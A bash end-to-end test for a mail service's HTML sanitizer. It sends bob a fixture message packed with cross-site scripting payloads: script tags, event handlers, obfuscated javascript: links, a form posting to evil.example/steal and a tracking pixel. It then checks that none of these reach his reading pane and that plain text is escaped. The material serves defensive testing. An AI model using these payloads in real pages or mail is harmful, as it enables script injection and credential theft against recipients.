#!/usr/bin/env bash
# Whatever a sender writes, bob's pane shows the message's formatting and
# nothing that can run, load from elsewhere or submit; a text message shows
# as text.
source "$(dirname "$0")/lib.sh"
start_service
admin add-user alice@example.com alice-pw >/dev/null
admin add-user bob@example.com bob-pw >/dev/null
login_script alice@example.com alice-pw >"$e2e_root/alice.script"
login_script bob@example.com bob-pw >"$e2e_root/bob.script"

cat >"$e2e_root/hostile.html" <<'HTML'
<html><head><title>Offer</title><meta http-equiv="refresh" content="0;url=https://evil.example/">
<base href="https://evil.example/"><link rel="stylesheet" href="https://evil.example/x.css">
<style>body { background: url(https://evil.example/bg.png) }</style></head>
<body onload="alert('body')">
<p>Dear <em>Bob</em>, <strong>kept</strong> text.</p>
<script>alert('script')</script><SCRIPT SRC=https://evil.example/x.js></SCRIPT>
<p OnMouseOver="alert('handler')" onClick=alert(2)>handlers</p>
<iframe src="https://evil.example/frame"></iframe>
<object data="x.swf"><embed src="x.swf"></object>
<form action="https://evil.example/steal"><input name="p"><button>Go</button></form>
<div style="width: expression(alert('expr')); color: red">styled</div>
<a href="jav&#x61;script:alert('link')">obfuscated</a> <a href="JaVaScRiPt:alert(1)">cased</a>
<a href="java	script:alert(1)">tabbed</a> <a href="vbscript:msgbox(1)">vb</a>
<a href="https://example.org/">a real link</a>
<img src="http://track.example/open.gif?u=bob" alt="Tracker" width="1" height="1">
<svg onload="alert('svg')"><circle r="1"/></svg>
<table border="1"><tr><td>cell one</td><td>cell two</td></tr></table>
<ul><li>first<li>second</ul>
<img src="data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==" alt="dot">
<p>unclosed <b>bold <img src=x onerror=alert('unclosed')//
HTML
host_as alice "$e2e_root/alice.script" send --account alice@example.com --to bob@example.com \
  --subject Offer --html "$e2e_root/hostile.html"
message="$(mail_for bob@example.com | tail -1)"
[ -n "$message" ] || fail "nothing delivered to bob"
host_as bob "$e2e_root/bob.script" read "$message" --pane-out "$e2e_root/view.html"
view="$e2e_root/view.html"
[ -s "$view" ] || fail "no pane: $(cat "$e2e_root/bob.err")"

passed=0
for active in '<script' '<iframe' '<object' '<embed' '<form' '<input' '<button' '<meta' \
  '<base' '<link' '<style' '<svg' 'expression' 'javascript:' 'vbscript:' 'track.example' \
  'evil.example'; do
  if grep -qiF -- "$active" "$view"; then fail "'$active' reached the pane: $(cat "$view")"; fi
  passed=$((passed + 1))
done
if grep -qiE '<[^>]*[[:space:]/]on[a-z]+[[:space:]]*=' "$view"; then
  fail "an event handler reached the pane: $(cat "$view")"
fi
for kept in '<p>Dear <em>Bob</em>, <strong>kept</strong> text.</p>' \
  '<div style="color:red">styled</div>' '<a href="https://example.org/">a real link</a>' \
  '<a>obfuscated</a>' '<img alt="Tracker" width="1" height="1">' \
  '<table border="1"><tr><td>cell one</td><td>cell two</td></tr></table>' \
  '<li>first</li><li>second</li>' '<img src="data:image/png;base64,iVBORw0KGgo' \
  'Remote images in this message were blocked.'; do
  expect_in "$view" "$kept"
  passed=$((passed + 1))
done

# A text/plain message, encrypted to bob's key outside the service, shows
# its characters as text.
printf 'Content-Type: text/plain; charset=utf-8\r\n\r\na < b & c > d <b>not bold</b>\r\n' |
  gpg --homedir "$e2e_root/service/gnupg" --batch --quiet --no-permission-warning \
    --trust-model always --armor --encrypt -r bob@example.com >"$e2e_root/plain.asc" 2>/dev/null ||
  fail "gpg could not encrypt to bob"
{
  printf 'From: alice@example.com\r\nTo: bob@example.com\r\nSubject: text\r\n'
  printf 'Message-ID: <text-1@example.com>\r\nDate: Tue, 1 Dec 2026 10:00:00 +0000\r\n'
  printf 'MIME-Version: 1.0\r\nContent-Type: multipart/encrypted; '
  printf 'protocol="application/pgp-encrypted"; boundary="b1"\r\n\r\n'
  printf -- '--b1\r\nContent-Type: application/pgp-encrypted\r\n\r\nVersion: 1\r\n\r\n'
  printf -- '--b1\r\nContent-Type: application/octet-stream; name="encrypted.asc"\r\n'
  printf 'Content-Disposition: inline; filename="encrypted.asc"\r\n\r\n'
  cat "$e2e_root/plain.asc"
  printf '\r\n--b1--\r\n'
} >"$e2e_root/plain.eml"
host_as bob /dev/null read "$e2e_root/plain.eml" --account bob@example.com \
  --pane-out "$e2e_root/plain.html"
expect_in "$e2e_root/plain.html" '<pre>a &lt; b &amp; c &gt; d &lt;b&gt;not bold&lt;/b&gt;'
expect_not_in "$e2e_root/plain.html" '<b>'
passed=$((passed + 2))
echo "$passed passed, 0 failed"
